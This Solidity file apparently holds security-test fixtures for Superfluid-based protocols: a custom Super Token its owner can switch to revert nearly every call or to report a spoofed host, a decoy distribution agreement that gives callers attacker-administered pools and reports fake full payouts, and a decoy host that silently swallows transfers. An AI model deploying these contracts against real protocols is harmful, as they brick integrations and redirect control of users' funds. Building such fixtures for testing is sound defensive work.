// SPDX-License-Identifier: MIT
pragma solidity ^0.8.26;

import {IERC20} from "@openzeppelin-v5/contracts/token/ERC20/IERC20.sol";
import {
    CustomSuperTokenBase
} from "@superfluid-finance/ethereum-contracts/contracts/interfaces/superfluid/CustomSuperTokenBase.sol";
import {ISuperToken} from "@superfluid-finance/ethereum-contracts/contracts/interfaces/superfluid/ISuperToken.sol";
import {
    ISuperfluidToken
} from "@superfluid-finance/ethereum-contracts/contracts/interfaces/superfluid/ISuperfluidToken.sol";
import {
    ISuperTokenFactory
} from "@superfluid-finance/ethereum-contracts/contracts/interfaces/superfluid/ISuperTokenFactory.sol";
import {
    ISuperfluidPool
} from "@superfluid-finance/ethereum-contracts/contracts/interfaces/agreements/gdav1/ISuperfluidPool.sol";
import {
    IGeneralDistributionAgreementV1,
    PoolConfig
} from "@superfluid-finance/ethereum-contracts/contracts/interfaces/agreements/gdav1/IGeneralDistributionAgreementV1.sol";
import {UUPSProxy} from "@superfluid-finance/ethereum-contracts/contracts/upgradability/UUPSProxy.sol";

/// @title HostileSuperToken: a genuine Superfluid Super Token that its owner can turn hostile.
/// @notice A Superfluid "custom super token": a UUPS proxy initialised through the real
/// SuperTokenFactory (`initializeCustomSuperToken`), so every call is delegated to the real
/// SuperToken logic and the real GDA accepts it (pools, units, flows, ERC-20). Its owner holds two
/// switches, both invisible to anyone who only checked the token once:
/// - `arm`: from then on every call reverts, except getHost() and the ERC-20 metadata views, so
///   any contract that must call into the token (or into a pool of it) on its way is bricked;
/// - `spoofHost`: getHost() reports the given contract instead of the real Superfluid host.
/// @dev Storage after CustomSuperTokenBase's 32 reserved slots, as Superfluid's custom tokens do.
/// Selector names are chosen not to collide with the SuperToken logic's own functions.
contract HostileSuperToken is CustomSuperTokenBase, UUPSProxy {
    error Armed();
    error NotHostileOwner(address caller);

    address public immutable hostileOwner;
    bool public isArmed;
    address public spoofedHost;

    constructor(address owner_) {
        hostileOwner = owner_;
    }

    modifier onlyHostileOwner() {
        if (msg.sender != hostileOwner) revert NotHostileOwner(msg.sender);
        _;
    }

    /// @notice Links the proxy to the factory's SuperToken logic, initialises it as a pure Super
    /// Token (no underlying) and mints `supply` to `holder`: a real Super Token from then on.
    function bootstrap(
        ISuperTokenFactory factory,
        string calldata name,
        string calldata symbol,
        address holder,
        uint256 supply
    ) external onlyHostileOwner {
        factory.initializeCustomSuperToken(address(this));
        ISuperToken(address(this)).initialize(IERC20(address(0)), 18, name, symbol);
        ISuperToken(address(this)).selfMint(holder, supply, new bytes(0));
    }

    function arm() external onlyHostileOwner {
        isArmed = true;
    }

    function disarm() external onlyHostileOwner {
        isArmed = false;
    }

    /// @notice From now on getHost() answers `host` (address(0): the real host again).
    function spoofHost(address host) external onlyHostileOwner {
        spoofedHost = host;
    }

    function _fallback() internal override {
        if (msg.sig == ISuperfluidToken.getHost.selector && spoofedHost != address(0)) {
            bytes memory answer = abi.encode(spoofedHost);
            assembly ("memory-safe") {
                return(add(answer, 0x20), mload(answer))
            }
        }
        if (isArmed && !_stillAnswered(msg.sig)) revert Armed();
        super._fallback();
    }

    /// @dev What an armed token still answers: its host and its ERC-20 metadata.
    function _stillAnswered(bytes4 sig) private pure returns (bool) {
        return sig == ISuperfluidToken.getHost.selector || sig == ISuperToken.name.selector
            || sig == ISuperToken.symbol.selector || sig == ISuperToken.decimals.selector;
    }
}

/// @title DecoyGDA: the attacker's stand-in for the General Distribution Agreement.
/// @notice Whatever contract caches it (through a decoy token's getHost()) talks to it from then on
/// for every token, forever:
/// - `createPool`: the first call (the decoy token's own pool) gets a placeholder; every later call
///   gets a REAL pool of the requested token, created through the real GDA, administered by the
///   attacker, so the caller no longer controls the units of its pools;
/// - `estimateDistributionActualAmount`: "all of it", so a distribution looks fully paid.
contract DecoyGDA {
    IGeneralDistributionAgreementV1 public immutable realGDA;
    address public immutable attacker;
    bool private _placeholderGiven;

    constructor(IGeneralDistributionAgreementV1 realGDA_, address attacker_) {
        realGDA = realGDA_;
        attacker = attacker_;
    }

    function createPool(ISuperfluidToken token, address, PoolConfig calldata config)
        external
        returns (ISuperfluidPool)
    {
        if (!_placeholderGiven) {
            _placeholderGiven = true;
            return ISuperfluidPool(address(this));
        }
        return realGDA.createPool(token, attacker, config);
    }

    function estimateDistributionActualAmount(ISuperfluidToken, address, ISuperfluidPool, uint256 requestedAmount)
        external
        pure
        returns (uint256)
    {
        return requestedAmount;
    }
}

/// @title DecoyHost: the attacker's stand-in for the Superfluid host.
/// @notice Names the DecoyGDA as every agreement class, keeps the clock (real pools of a decoy
/// token ask their token's host for the time) and swallows every agreement call: whoever routes
/// `distribute`/`distributeFlow`/`claimAll` through it moves nothing, without an error.
contract DecoyHost {
    address public immutable gda;

    constructor(address gda_) {
        gda = gda_;
    }

    function getAgreementClass(bytes32) external view returns (address) {
        return gda;
    }

    function getNow() external view returns (uint256) {
        return block.timestamp;
    }

    function callAgreement(address, bytes calldata, bytes calldata) external pure returns (bytes memory) {
        return new bytes(0);
    }
}
